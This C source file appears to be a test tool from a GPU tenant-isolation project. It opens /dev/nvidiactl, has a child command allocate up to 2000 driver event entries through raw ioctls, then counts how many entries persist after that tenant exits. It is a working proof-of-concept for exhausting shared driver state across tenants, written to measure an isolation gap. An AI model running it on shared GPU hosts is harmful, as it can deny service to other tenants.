/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Entries of the driver's list of events of the operating system that outlive the tenant that made them: they go with
 * the file that they were made on, and that is somebody's outside. One tenant after the other could leave as many.
 *
 *      attack-listens-kept COMMAND...  opens a control file, runs COMMAND... with itself and `take FD FILE` behind it,
 *                                      and looks afterwards which entries are left: "took=N left=N"
 *
 * SUBLET_ATTACK_CLIENT=there: the client is made on that file, too, and lives on.
 */
#include "kit.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

enum {
        NR_ALLOC_EVENT = 0xce,
        NR_FREE_EVENT = 0xcf,
        N = 2000,
        ARGS_MAX = 32,
};

static bool call_list(int ctl, unsigned int request, uint32_t client, uint32_t number)
{
        unsigned char block[16] = { 0 };

        kit_put32(block, 0, client);
        kit_put32(block, 8, number);
        return kit_ioctl(ctl, _IOC(_IOC_READ | _IOC_WRITE, 'F', request, sizeof(block)), block) == 0 &&
               kit_get32(block, 12) == 0;
}

/* Its client is gone with it, or not; the file is not. */
static int take(int ctl, const char *result)
{
        FILE *file = fopen(result, "w");
        unsigned int n = 0;
        struct kit_rm rm;

        if (!getenv("SUBLET_ATTACK_CLIENT"))
                kit_rm_open(&rm);
        else if (!kit_rm_open_on(&rm, ctl))
                kit_cannot("no client on that file");
        for (uint32_t i = 0; i < N; i++)
                n += call_list(ctl, NR_ALLOC_EVENT, rm.client, i);
        if (!file)
                kit_cannot("no file for the result");
        (void)fprintf(file, "%u %u\n", n, rm.client);
        return fclose(file) != 0;
}

/* One that is in the list cannot be put there again, by whomever. */
static unsigned int count_left(uint32_t client)
{
        int ctl = open("/dev/nvidiactl", O_RDWR | O_CLOEXEC);
        unsigned int n = 0;

        for (uint32_t i = 0; i < N; i++) {
                bool is_free = call_list(ctl, NR_ALLOC_EVENT, client, i);

                n += !is_free;
                if (is_free)
                        (void)call_list(ctl, NR_FREE_EVENT, client, i);
        }
        (void)close(ctl);
        return n;
}

int main(int argc, char **argv)
{
        char number[16], word[] = "take", result[] = "/tmp/sublet-listens-XXXXXX", *args[ARGS_MAX + 5];
        int ctl, status, file, n = argc - 1;
        unsigned int taken = 0, client = 0;
        FILE *said;

        if (argc == 4 && !strcmp(argv[1], "take"))
                return take(atoi(argv[2]), argv[3]);
        ctl = open("/dev/nvidiactl", O_RDWR);
        file = mkstemp(result);
        if (ctl < 0 || file < 0 || n < 1 || n > ARGS_MAX)
                kit_cannot("no control file, or no command");
        (void)snprintf(number, sizeof(number), "%d", ctl);
        memcpy(args, argv + 1, (size_t)n * sizeof(*args));
        memcpy(args + n, (char *[]){ argv[0], word, number, result, NULL }, 5 * sizeof(*args));
        if (fork() == 0) {
                (void)execvp(args[0], args);
                _exit(127);
        }
        (void)wait(&status);
        said = fdopen(file, "r");
        if (!said || fscanf(said, "%u %u", &taken, &client) != 2)
                kit_cannot("the tenant did not say what it took");
        (void)unlink(result);
        (void)sleep(1); /* its shim settles */
        printf("took=%u left=%u\n", taken, count_left(client));
        return 0;
}
